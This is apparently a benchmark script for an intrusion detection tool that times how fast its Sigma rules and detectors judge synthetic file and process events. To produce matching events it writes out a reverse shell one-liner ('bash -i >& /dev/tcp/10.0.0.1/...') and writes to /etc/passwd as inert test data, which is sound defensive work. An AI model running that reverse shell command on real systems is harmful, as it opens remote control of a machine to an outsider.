"""What judging costs: microseconds an event, by the shipped rules, over ordinary and matching events.

    python -m tests.bench.bench_detect [COUNT]

Prints one JSON object.  Each figure is the best of five runs, so that other load on the machine does not count.
"""

from __future__ import annotations

import json
import sys
import time
from collections.abc import Callable, Sequence

from sentinair.detect.gaps import GapDetector
from sentinair.detect.secrets import Masker
from sentinair.detect.sigma.detector import SigmaDetector
from sentinair.detect.sigma.files import read_rules
from sentinair.model.alert import Joined
from sentinair.model.event import CREATE, WRITE, FileEvent, FileState, ProcessEvent
from sentinair.model.process import Parent, Process
from tests.bench.figures import ROOT, Figures, commit, machine

RUNS = 5


def _file(path: bytes, mode: int = 0o100644) -> Joined:
    state = FileState(mode, 0, 0, 10, 1, 1, 0, 0)
    event = FileEvent(
        seen_ns=1, mono_ns=1, path=path, actions=CREATE | WRITE, state=state, pid=7, start=9
    )
    return Joined(event, Process(pid=7, start=9, exe=b"/usr/bin/bash", argv=(b"bash",), uid=0))


def _process(number: int, argv: tuple[bytes, ...]) -> Joined:
    parent = Parent(1, 2, b"/usr/bin/bash", (b"bash", b"-l"))
    process = Process(
        pid=number, start=9, exe=b"/usr/bin/" + argv[0], argv=argv, uid=0, parents=(parent,)
    )
    return Joined(ProcessEvent(seen_ns=1, mono_ns=1, action="exec", process=process), process)


def _best(call: Callable[[Joined], object], events: Sequence[Joined]) -> float:
    best = float("inf")
    for _ in range(RUNS):
        began = time.perf_counter()
        for event in events:
            call(event)
        best = min(best, time.perf_counter() - began)
    return round(best / len(events) * 1e6, 2)


def measure(count: int) -> Figures:
    """Microseconds an event by kind; count: events of each kind."""
    began = time.perf_counter()
    rules = read_rules(ROOT / "config" / "rules").rules
    load_ms = round((time.perf_counter() - began) * 1000, 1)
    sigma, gap, masker = SigmaDetector(rules), GapDetector(b"/var/lib/sentinair", (1, 0)), Masker()
    plain = [_file(b"/srv/data/dir%d/file%d.txt" % (n % 100, n)) for n in range(count)]
    hits = [_file(b"/etc/passwd") for _ in range(count // 10)]
    execs = [_process(n, (b"touch", b"/srv/data/file%d" % n, b"--no-create")) for n in range(count)]
    shells = [
        _process(n, (b"bash", b"-c", b"bash -i >& /dev/tcp/10.0.0.1/%d 0>&1" % n))
        for n in range(count // 10)
    ]
    return {
        "rules": len(rules),
        "load_ms": load_ms,
        "file_plain_us": _best(sigma.judge, plain),
        "file_plain_gap_us": _best(gap.judge, plain),
        "file_alert_us": _best(sigma.judge, hits),
        "process_plain_us": _best(sigma.judge, execs),
        "process_alert_us": _best(sigma.judge, shells),
        "mask_plain_us": _best(lambda j: masker.process(j.process) if j.process else None, execs),
        "machine": machine(),
        "commit": commit(),
    }


def main() -> None:
    """COUNT defaults to 20,000."""
    count = int(sys.argv[1]) if len(sys.argv) > 1 else 20_000
    print(json.dumps(measure(count)))


if __name__ == "__main__":
    main()
